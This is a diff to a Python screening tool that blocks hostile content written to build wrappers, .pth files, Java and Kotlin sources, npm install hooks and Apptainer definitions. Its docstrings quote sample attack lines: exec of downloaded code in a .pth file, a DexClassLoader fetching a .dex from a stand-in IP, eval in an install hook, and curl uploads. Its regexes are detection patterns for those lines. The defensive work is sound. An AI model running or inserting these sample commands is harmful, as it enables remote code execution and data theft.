@@ -13,6 +13,12 @@ tox.ini, noxfiles, CMake, Meson, cargo's settings, Go sources, pip.conf, `.yarnr
 `#!` line as the program it is, decodes printf's escapes and conversions, and, when the input then runs the tool
 (`make X`, `just X`, `task X`, `tox -e X`, `nox -s X`), judges what that run starts with what it is given and reviews
 the irreversible commands of the targets it runs.
+Session 19: the Gradle and Maven wrapper scripts (`gradlew`, `mvnw`: every build runs them) are read as shell scripts,
+an edit (`sed -i '2i …' gradlew`, `sed -i '1i apply from: "https://…"' build.gradle`) as the text it adds to the file;
+a `.pth` file's `import` lines as the Python every interpreter start runs where it is installed; Java and Kotlin
+sources of an app that fetch code and load it (a `DexClassLoader` or `URLClassLoader` of a `.dex`/`.jar` from an
+address: the shipped app runs whatever that address serves); an install hook of package.json (`postinstall`) that
+evaluates code while naming an address (fetched code run on every machine that installs the package).
 """
 from __future__ import annotations
 
@@ -29,7 +35,8 @@ from .files import copy_sources, write_targets, written_file
 from .words import static_print
 
 # file names whose content a tool runs (the screens in fastpath.py send these on; keep in step)
-CODE_TARGET = re.compile(r"\.(?:py|pyw|js|mjs|cjs|ts|mts|cts|sh|bash|zsh|mk|ps1|psm1)\b|\.envrc|package\.json|\.npmrc|"
+CODE_TARGET = re.compile(r"\.(?:py|pyw|js|mjs|cjs|ts|mts|cts|sh|bash|zsh|mk|ps1|psm1|pth|java|kt)\b|\.envrc|package\.json|"
+                         r"\.npmrc|(?:gradlew|mvnw)\b(?![ \t]+[\w-])|wrapper\.properties|"
                          r"hooks/|\.husky/|[Mm]akefile|[Jj]ustfile|Dockerfile|Containerfile|\.dockerfile\b|\.tf\b|"
                          r"requirements[\w.-]*\.(?:txt|in)|" + agent_settings.TARGET + "|" +
                          run_later.TARGET + "|" + agent_settings.INSTRUCTIONS_TARGET + "|" + ci.TARGET + "|" +
@@ -39,6 +46,7 @@ _LANG_BY_EXT = {"py": "python", "pyw": "python", "js": "typescript", "mjs": "typ
                 "zsh": "bash", "ps1": "powershell", "psm1": "powershell"}
 _STAGING_EXT = frozenset({"tmp", "temp", "new", "part"})
 _HOOK_DIR = re.compile(r"(?:^|/)(?:hooks|\.githooks|\.husky)/[^/]+$")
+_WRAPPERS = frozenset({"gradlew", "mvnw"})  # the build wrappers: shell scripts every build runs
 _SHEBANG = re.compile(r"#!\s*\S*?(?:env\s+)?(?:\S*/)?(python|node|bash|sh|zsh|dash)")
 
 
@@ -67,6 +75,14 @@ def _kind(path: str, text: str) -> str | None:
         return "bash"
     if base in ("Makefile", "makefile", "GNUmakefile") or base.endswith(".mk"):
         return "makefile"
+    if base in _WRAPPERS:
+        return "bash"
+    if base.endswith(".pth"):
+        return "pth"
+    if base.endswith("wrapper.properties") and appbuilds.WRAPPER_PROPERTIES.search(path):
+        return "wrapper-properties"
+    if base.endswith((".java", ".kt")):
+        return "jvm-source"
     if base in ("justfile", "Justfile", ".justfile"):
         return "justfile"
     if base.startswith("requirements") and base.endswith((".txt", ".in")):
@@ -547,6 +563,15 @@ def _judge(a, targets: list[str], text: str, node, decoded: tuple[str, ...] = ()
             _instructions(a, path, text, node)
         elif kind == "build-file":
             appbuilds.judge_build_file(a, path, text, node)
+        elif kind == "wrapper-properties":
+            if appbuilds.wrapper_properties(a, path, text, node):
+                return True
+        elif kind == "pth":
+            if _pth(a, path, text, node):
+                return True
+        elif kind == "jvm-source":
+            if _remote_code_loaded(a, path, text, node):
+                return True
         elif kind is not None:
             found = blocked(a, text, kind)
             if found is not None:
@@ -685,6 +710,71 @@ def blocked(a, text: str, lang: str):
     return judge(a, text, lang, _STYLE)
 
 
+# -- a `.pth` file: its `import` lines run at every start of the interpreter it is installed in ----------------------
+_PTH_RUNS = frozenset({"py-dynamic-code", "py-shell-exec", "py-process-spawn"})
+
+
+def _pth(a, path: str, text: str, node) -> bool:
+    """`echo 'import os,base64;exec(…urlopen(…).read())' > zz_init.pth` (then zipped into a wheel, or written to
+    site-packages): site.py runs each line that begins with `import` at every interpreter start. The ordinary ones
+    (`import _virtualenv`, an editable install's finder, setuptools' distutils shim) import a module and call it; code
+    computed at run time (`exec`, `eval`), a shell or a process started there is a loader hidden in the start-up."""
+    from .handed import alone
+
+    for line in text.splitlines()[:64]:
+        if not line.startswith(("import ", "import	")):
+            continue
+        for r in alone(a, line, "python"):
+            if r.verdict == "block":
+                what = "runs code computed at run time" if r.rule in _PTH_RUNS else "would be blocked"
+                a.block("persistence" if r.rule in _PTH_RUNS else r.rule,
+                        f"the `.pth` line written to {path} {what} ({r.message}); Python runs a `.pth` file's import "
+                        "lines at every start of the interpreter it is installed in: a `.pth` file adds paths, or "
+                        "imports a module that is in the package", node)
+                return True
+    return False
+
+
+# -- an app's Java or Kotlin source that loads code it fetches ---------------------------------------------------
+_CLASS_LOADER = re.compile(r"\b(?:DexClassLoader|InMemoryDexClassLoader|PathClassLoader|BaseDexClassLoader|"
+                           r"URLClassLoader|DelegateLastClassLoader)\b|\bSystem\.load\s*\(|\bdefineClass\s*\(")
+_CODE_URL = re.compile(r"""["'](?:https?|ftp)://[^"'\s]+?\.(?:dex|jar|apk|zip|so|class)(?:\?[^"'\s]*)?["']|"""
+                       r"""["']https?://\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?/[^"'\s]*["']""")
+
+
+def _remote_code_loaded(a, path: str, text: str, node) -> bool:
+    """`new URL("http://203.0.113.88/m/w.dex").openStream()` written to a file, then `new DexClassLoader(f…)
+    .loadClass(…)`: the app runs code its source does not hold, whatever that address serves at the time (the Play
+    policies ban it; a release build carries it to every user). A class loader of the app's own files is not read."""
+    if not (_CLASS_LOADER.search(text) and ("://" in text)):
+        return False
+    url = _CODE_URL.search(text)
+    if url is None:
+        return False
+    a.block("download-exec", f"the source written to {path} downloads {url.group(0)[:80]} and loads it as code "
+                             f"(`{_CLASS_LOADER.search(text).group(0)}`): the app would run whatever that address "
+                             "serves; ship the code in the app itself", node)
+    return True
+
+
+# -- an install hook that evaluates code while naming an address: fetched code run on install --------------------
+_INSTALL_HOOKS = frozenset({"preinstall", "install", "postinstall", "prepare", "prepublish", "preprepare",
+                            "postprepare", "dependencies"})
+_EVALS = frozenset({"js-dynamic-code", "py-dynamic-code", "dynamic-exec"})
+_ADDRESS = re.compile(r"(?:https?|ftp)://")
+
+
+def _fetched_eval(a, text: str) -> str | None:
+    """The finding of code computed at run time in `text` (a script npm runs on install), when it names an address:
+    `node -e "require('https').get(URL, r => … eval(d))"` runs whatever the address serves."""
+    from .handed import alone
+
+    if not _ADDRESS.search(text) or not any(w in text for w in ("eval", "exec", "Function", "vm.")):
+        return None
+    hit = next((r for r in alone(a, text, "bash") if r.verdict == "block" and r.rule in _EVALS), None)
+    return hit.message if hit is not None else None
+
+
 def _package_json(a, path: str, text: str, node) -> None:
     try:
         manifest = json.loads(text)
@@ -702,11 +792,63 @@ def _package_json(a, path: str, text: str, node) -> None:
                 a.block(found.rule, f"the script `{name}` written to {path} would be blocked ({found.message}); npm "
                                     "runs it on install or `npm run`", node)
                 return
+            fetched = _fetched_eval(a, code) if name in _INSTALL_HOOKS else None
+            if fetched is not None:
+                a.block("download-exec", f"the install script `{name}` written to {path} evaluates code while naming "
+                                         f"an address ({fetched}): npm runs it on every machine that installs the "
+                                         "package, with whatever that address serves; ship the code in the package",
+                        node)
+                return
 
 
 def _run_later(a, path: str, text: str, node) -> None:
     """A VS Code task run when the folder opens, a dev container's lifecycle command, a local pre-commit hook."""
+    if run_later.kind(path) == "apptainer":
+        _apptainer(a, path, text, node)
+        return
     _commands_written(a, path, run_later.commands(path, text), node)
+
+
+_IN_IMAGE = frozenset({"post", "test"})
+
+
+def _apptainer(a, path: str, text: str, node) -> None:
+    """An Apptainer/Singularity definition: `%setup` runs on the host and the run sections as the user with the home
+    folder mounted, so they are judged as commands run here. `%post` builds the image, as a Dockerfile's RUN lines do:
+    what reaches past it (data sent out, a shell to another machine) is blocked, and code fetched and run there is
+    held for review (unlike Docker's, an Apptainer image runs as the user, with the home folder mounted, so what the
+    fetched script leaves in the image runs with the user's files at every run)."""
+    from .handed import alone
+
+    for section, (command, when) in zip(run_later.section_names(text), run_later.commands(path, text)):
+        if section not in _IN_IMAGE:
+            before = _blocks(a)
+            _commands_written(a, path, [(command, when)], node)
+            if _blocks(a) > before:
+                return
+            continue
+        found = alone(a, command, "bash")
+        hit = next((r for r in found if r.verdict == "block" and r.rule in _REACHES_OUT), None)
+        if hit is not None:
+            a.block(hit.rule, f"`%{section}` of {path} holds `{_one_line(command)}`, which would be blocked "
+                              f"({hit.message}); {when}: keep the image's build to the image", node)
+            return
+        hit = next((r for r in found if r.verdict == "block" and r.rule == "download-exec"), None)
+        if hit is not None:
+            a.review("download-exec", f"`%{section}` of {path} runs code it downloads ({hit.message}); {when}, and "
+                                      "the image then runs as you with your home folder mounted: copy the installer "
+                                      "into the project, review it and add it with `%files`, or install from a "
+                                      "package index", node)
+            return
+
+
+def _blocks(a) -> int:
+    return sum(r.verdict == "block" for r in a.ctx.reasons)
+
+
+def _one_line(text: str) -> str:
+    one = " ".join(text.split())
+    return one if len(one) <= 80 else one[:77] + "…"
 
 
 def _commands_written(a, path: str, commands, node) -> None:
@@ -1247,7 +1389,9 @@ def _edit(a, cmd: Cmd) -> None:
         else:
             _ci_edit(a, cmd, defs[0])
     elif writes and cmd.name in ("sed", "gsed", "perl"):
-        builds = [v for v in vals if v[:1] != "-" and (taskfiles.kind(v) is not None or _build_file(v))]
+        builds = [v for v in vals if v[:1] != "-" and (taskfiles.kind(v) is not None or _build_file(v) or
+                                                       _script_file(v) or run_later.kind(v) in _HOOK_KINDS or
+                                                       appbuilds.WRAPPER_PROPERTIES.search(v) is not None)]
         if builds:
             _build_edit(a, cmd, builds[0])
     if cmd.name in _JQS and writes:
@@ -1319,6 +1463,7 @@ def _jq_later(name: str, path: str) -> bool:
 _JQS = frozenset({"jq", "gojq", "yq"})
 _MANIFEST = re.compile(r"(?:^|/)package\.json$")
 # a string a jq filter assigns (`= "…"`, `|= "…"`) or puts under a key (`{"preinstall": "…"}`)
+_HEX_ESCAPE = re.compile(r"(?<!\\)((?:\\\\)*)\\x([0-9a-fA-F]{2})")
 _JQ_SET = re.compile(r"""(?:=|:)\s*("(?:\\.|[^"\\])*")""")
 _JQ_ARG_OPTS = frozenset({"--arg", "--argjson"})
 
@@ -1347,14 +1492,27 @@ def _scripts_edit(a, cmd: Cmd, manifests: list[str], node=None) -> None:
     for m in _JQ_SET.finditer(filt):
         try:
             texts.append(json.loads(m.group(1)))
-        except ValueError:
-            continue
+        except ValueError:  # `\x27` (jq refuses it; the same filter with `\u0027` runs): read as the character
+            try:
+                texts.append(json.loads(_HEX_ESCAPE.sub(r"\1\\u00\2", m.group(1))))
+            except ValueError:
+                continue
+    install = any(h in filt for h in _INSTALL_HOOKS)
     for text in texts:
-        found = blocked(a, text, "bash") if isinstance(text, str) and text.strip() else None
+        if not isinstance(text, str) or not text.strip():
+            continue
+        found = blocked(a, text, "bash")
         if found is not None:
             a.block(found.rule, f"`{cmd.name}` sets a script of {manifests[0]} to `{text[:80]}`, which would be blocked "
                                 f"({found.message}); npm runs it on install, on every machine that installs the "
                                 "package", node or cmd.node)
+            return
+        fetched = _fetched_eval(a, text) if install else None
+        if fetched is not None:
+            a.block("download-exec", f"`{cmd.name}` sets an install script of {manifests[0]} to `{text[:80]}`, which "
+                                     f"evaluates code while naming an address ({fetched}); npm runs it on every "
+                                     "machine that installs the package, with whatever that address serves", node or
+                    cmd.node)
             return
 
 
@@ -1715,6 +1873,19 @@ def _build_file(path: str) -> bool:
     return build_kind(path) not in (None, "go", "composer")
 
 
+# the hook files of run_later an edit can add a command to (their commands sit on lines of their own)
+_HOOK_KINDS = frozenset({"goreleaser", "nextflow", "snakemake", "modulefile"})
+
+
+_YAML_ITEM = re.compile(r"^-\s*(?:cmd\s*:\s*)?")
+
+
+def _script_file(path: str) -> bool:
+    """A shell script a tool runs on its own: the build wrappers (`gradlew`), a `.sh` file."""
+    base = path.rsplit("/", 1)[-1]
+    return base in _WRAPPERS or base.endswith((".sh", ".bash"))
+
+
 def _build_edit(a, cmd: Cmd, path: str) -> None:
     """`sed -i '1a execute_process(COMMAND sh -c "… | curl -T - https://…")' CMakeLists.txt`: the line an edit adds to
     a build or task file (a substitution's replacement, a line `a`/`i`/`c` adds) runs when the tool configures or
@@ -1723,8 +1894,29 @@ def _build_edit(a, cmd: Cmd, path: str) -> None:
         texts = [m.group(3) for m in _SED_S.finditer(v)] + [m.group(1) for m in _SED_TEXT.finditer(v)]
         for text in texts[:8]:
             text = text.replace("\\n", "\n").replace("\\t", "\t")
-            if text.strip() and _judge(a, [path], text + "\n", cmd.node):
-                return
+            if not text.strip():
+                continue
+            if run_later.kind(path) == "goreleaser" and not run_later.commands(path, text):
+                # a hook added under `hooks:` is a YAML item (`    - sh -c '…'`, `- cmd: …`): the command it holds
+                line = _YAML_ITEM.sub("", text.strip(), count=1).strip() if "\n" not in text.strip() else ""
+                if len(line) > 1 and line[0] == line[-1] and line[0] in "'\"":
+                    line = line[1:-1]
+                if line:
+                    before = _blocks(a)
+                    _commands_written(a, path, [(line, "goreleaser runs its hooks on this machine at every "
+                                                       "`goreleaser release`")], cmd.node)
+                    if _blocks(a) > before:
+                        return
+                continue
+            if _build_file(path):  # Gradle, Rake, CMake …: the build runs what the added line says
+                from .ecosystems import judge_build_file
+
+                if judge_build_file(a, path, text + "\n", cmd.node):
+                    return
+            else:
+                before = _blocks(a)
+                if _judge(a, [path], text + "\n", cmd.node) or _blocks(a) > before:
+                    return
 
 
 def _edited(a, cmd: Cmd, files: list[str], node) -> None:
